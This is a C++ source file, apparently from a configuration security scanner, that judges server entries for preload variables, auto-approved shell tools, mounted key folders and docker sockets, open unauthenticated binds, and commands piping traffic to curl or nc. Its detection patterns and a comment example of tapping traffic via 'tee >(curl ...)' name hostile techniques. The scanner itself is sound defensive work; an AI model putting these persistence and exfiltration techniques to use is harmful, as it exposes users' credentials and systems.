// What the settings of a host say of one server besides its command: variables that have something else loaded first,
// calls that are let through, folders that it is given, and who fills in its headers.
#include <algorithm>
#include <array>
#include <string>
#include <string_view>
#include <vector>

#include "code/places.h"
#include "code/shell.h"
#include "code/vendors.h"
#include "fmt/format.h"
#include "static/literals.h"
#include "static/shell_judge.h"
#include "static/supply_internal.h"

namespace interlock::scan {
namespace {

using base::JsonValue;
using core::Reach;

constexpr double kLoaded = 1.0;
constexpr double kLetThrough = 0.75;
constexpr std::size_t kManyOwners = 3;

bool IsWhereAllWrite(std::string_view path) {
  return path.starts_with("/tmp/") || path.starts_with("/var/tmp/") || path.starts_with("/dev/shm/");
}

// --require /tmp/hook.js, --import https://..., -r ./x: what is loaded is none of the server's own.
bool LoadsForeign(std::string_view options) {
  for (const std::string_view option : {"--require", "--import", "--loader", "--experimental-loader", "-r"}) {
    const std::size_t at = options.find(option);
    if (at == std::string_view::npos) continue;
    std::string_view rest = options.substr(at + option.size());
    rest.remove_prefix(std::min(rest.find_first_not_of(" =\"'"), rest.size()));
    if (rest.starts_with('/') || rest.starts_with('~') || rest.starts_with("http") || rest.starts_with("data:") ||
        rest.starts_with("$HOME"))
      return true;
  }
  return false;
}

// A variable by which a program loads another one before it begins. "" : none.
std::string_view LoadedBy(std::string_view name, std::string_view value) {
  if (value.empty()) return {};
  static constexpr std::array kAlways = std::to_array<std::string_view>(
      {"LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "BASH_ENV", "PYTHONSTARTUP", "PERL5OPT", "RUBYOPT"});
  if (std::ranges::find(kAlways, name) != kAlways.end()) return "loads another program first";
  if (name == "NODE_OPTIONS" && LoadsForeign(value)) return "loads another program first";
  if (name == "JAVA_TOOL_OPTIONS" && value.find("-javaagent") != std::string_view::npos)
    return "loads another program first";
  if ((name == "PYTHONPATH" || name == "NODE_PATH" || name == "LD_LIBRARY_PATH" || name == "PATH") &&
      IsWhereAllWrite(value))
    return "takes what it loads from where everybody may write";
  if (name == "GIT_SSH_COMMAND" && SaysAny(value, {"ProxyCommand", "| ", "; ", "curl", "nc "}))
    return "has git speak through another program";
  return {};
}

void JudgeVariables(Sheet& sheet, std::string_view name, JsonValue environment) {
  code::Vendors owners;
  for (auto it = environment.begin(); environment.is_object() && it != environment.end(); ++it) {
    const JsonValue value = *it;
    if (!value.is_string()) continue;
    const std::string_view key = it.key();
    if (const std::string_view how = LoadedBy(key, value.string()); !how.empty()) {
      sheet.Raise("PERSIST-001", SpanOf(value), fmt::format("a server {}, by {}", how, key)).scale = kLoaded;
    }
    if (code::LeavesPeersUnasked(key, value.string())) {
      sheet.Raise("VULN-007", SpanOf(value), "a server asks nobody whose certificate it is").severity =
          core::Severity::kHigh;
    }
    if (code::IsSecretName(key)) owners |= code::SecretVendorOf(key);
  }
  if (owners.count() < kManyOwners || code::HostOfVendors(LowerCase(name) + ".com", owners)) return;
  sheet
      .Raise("EXFIL-003", SpanOf(environment),
             fmt::format("gives one server the credentials of {} services", owners.count()))
      .scale = 0.6;
}

// Tools that run what they are told: who lets them through asks about nothing.
bool RunsCommands(std::string_view tool) {
  const std::string lower = LowerCase(tool);
  return SaysAny(lower, {"execute_command", "run_command", "exec_command", "run_terminal", "run_shell", "shell_exec",
                         "execute_shell", "run_script", "run_code", "execute_code"}) ||
         lower == "shell" || lower == "bash" || lower == "exec" || lower == "terminal";
}

void JudgeLetThrough(Sheet& sheet, JsonValue server) {
  for (const std::string_view key : {"autoApprove", "alwaysAllow", "autoApproved", "always_allow"}) {
    const JsonValue tools = server.Find(key);
    for (auto it = tools.begin(); tools.is_array() && it != tools.end(); ++it) {
      if (!(*it).is_string() || (!RunsCommands((*it).string()) && (*it).string() != "*")) continue;
      sheet.Raise("PERSIST-003", SpanOf(*it), fmt::format("lets `{}` run whatever it is given unasked", (*it).string()))
          .scale = kLetThrough;
      break;
    }
  }
  if (const JsonValue trust = server.Find("trust"); trust.AsBool().value_or(false))
    sheet.Raise("PERSIST-003", SpanOf(trust), "lets every tool of a server run unasked").scale = kLetThrough;
}

// Folders that a container or a server of files is given.
void JudgePlaces(Sheet& sheet, std::string_view name, std::string_view command, JsonValue args) {
  const std::string who = LowerCase(name);
  const bool container = SaysAny(command, {"docker", "podman", "nerdctl"});
  std::string_view before;
  bool open = false;
  bool bare = false;
  for (auto it = args.begin(); args.is_array() && it != args.end(); ++it) {
    if (!(*it).is_string()) continue;
    const std::string_view arg = (*it).string();
    const bool mount = container && (before == "-v" || before == "--volume" || before == "--mount" ||
                                     arg.starts_with("--volume=") || arg.starts_with("--mount="));
    if (mount && arg.find("docker.sock") != std::string_view::npos &&
        !SaysAny(who, {"docker", "container", "portainer", "kubernetes", "k8s", "podman"})) {
      sheet.Raise("ESCAPE-001", SpanOf(*it), "a server is given the machine's own containers").scale = 0.6;
    }
    // The user's own folder whole, or a folder of keys.
    const std::string_view place =
        mount ? arg.substr(arg.find('=') == std::string_view::npos ? 0 : arg.find('=') + 1) : arg;
    const std::string_view path = place.substr(0, mount ? place.find(':') : std::string_view::npos);
    const bool keys = !path.empty() && (path[0] == '/' || path[0] == '~' || path[0] == '$') &&
                      (path.ends_with("/.ssh") || path.ends_with("/.aws") || path.ends_with("/.gnupg") ||
                       path.ends_with("/.kube") || path.ends_with("/.config/gcloud"));
    if (keys) {
      sheet.Raise("EXFIL-008", SpanOf(*it), fmt::format("gives a server a folder of keys: {}", path)).scale = 1.0;
    }
    if ((arg.starts_with("--dangerously") || arg == "--no-confirm" || arg == "--yolo" || arg == "--allow-all" ||
         arg == "--auto-approve" || arg == "--skip-confirmation") &&
        arg != "--dangerously-omit-auth") {
      sheet.Raise("PERSIST-003", SpanOf(*it), fmt::format("starts a server with `{}`", arg)).scale = kLetThrough;
    }
    open = open || arg == "0.0.0.0" || arg == "--host=0.0.0.0" || arg == "--bind=0.0.0.0";
    bare = bare || arg == "--no-auth" || arg == "--disable-auth" || arg == "--insecure-no-auth";
    if (before == "--index-url" || before == "--default-index" || before == "--registry")
      sheet.Index(arg, SpanOf(*it), true, 1.5);
    if (before == "--extra-index-url" || before == "--index") sheet.Index(arg, SpanOf(*it), false, 1.5);
    before = arg;
  }
  if (!open || !bare) return;
  RawFinding& finding =
      sheet.Raise("VULN-010", SpanOf(args), "starts a server that lets everybody on the network call its tools");
  finding.scale = 1.6;
  finding.severity = core::Severity::kHigh;
}

// headersHelper: a command whose output is shown to the server at each request.
void JudgeHelper(Sheet& sheet, JsonValue server, JsonValue url) {
  for (const std::string_view key : {"headersHelper", "headers_helper"}) {
    const JsonValue helper = server.Find(key);
    if (!helper.is_string()) continue;
    sheet.Hook(std::string(key), helper.string(), SpanOf(helper), Reach::kInstall);
    const std::string host = url.is_string() ? HostOf(url.string()) : std::string();
    const code::Printed printed = code::PrintedBy(helper.string());
    if (host.empty() || printed == code::Printed::kNothing || code::IsKnownService(host)) continue;
    RawFinding& finding = sheet.Raise("EXFIL-001", SpanOf(helper), "shows a server what stores of credentials hold");
    finding.scale = 0.8;
    finding.host = host;
  }
}

// npx server | tee >(curl -T - https://host): what a host and its server say to one another is copied.
void JudgeTapped(Sheet& sheet, JsonValue args) {
  for (auto it = args.begin(); args.is_array() && it != args.end(); ++it) {
    if (!(*it).is_string()) continue;
    const std::string_view line = (*it).string();
    const std::size_t tee = line.find("tee >(");
    if (tee == std::string_view::npos) continue;
    const std::string_view rest = line.substr(tee);
    if (!SaysAny(rest, {"curl", "nc ", "ncat", "wget", "socat"})) continue;
    sheet.Raise("EXFIL-007", SpanOf(*it), "copies what a host and its server say to one another").scale = 1.2;
  }
}

}  // namespace

void JudgeServerEntry(Sheet& sheet, std::string_view name, JsonValue server, JsonValue url) {
  const JsonValue command = server.Find("command");
  const JsonValue args = command.is_array() ? command : server.Find("args");
  for (const std::string_view key : {"env", "environment"}) JudgeVariables(sheet, name, server.Find(key));
  JudgeLetThrough(sheet, server);
  JudgePlaces(sheet, name, command.is_string() ? command.string() : std::string_view("docker"), args);
  JudgeHelper(sheet, server, url);
  JudgeTapped(sheet, args);
  if (command.is_string() && IsWhereAllWrite(command.string())) {
    sheet.Raise("VULN-008", SpanOf(command), "starts a server from where everybody may write").severity =
        core::Severity::kHigh;
  }
  if (!url.is_string() || KindOfHost(url.string()) != HostKind::kTunnel) return;
  RawFinding& finding =
      sheet.Raise("SH-009", SpanOf(url), "a server lies behind a tunnel that anybody may have opened");
  finding.scale = 1.3;
}

}  // namespace interlock::scan
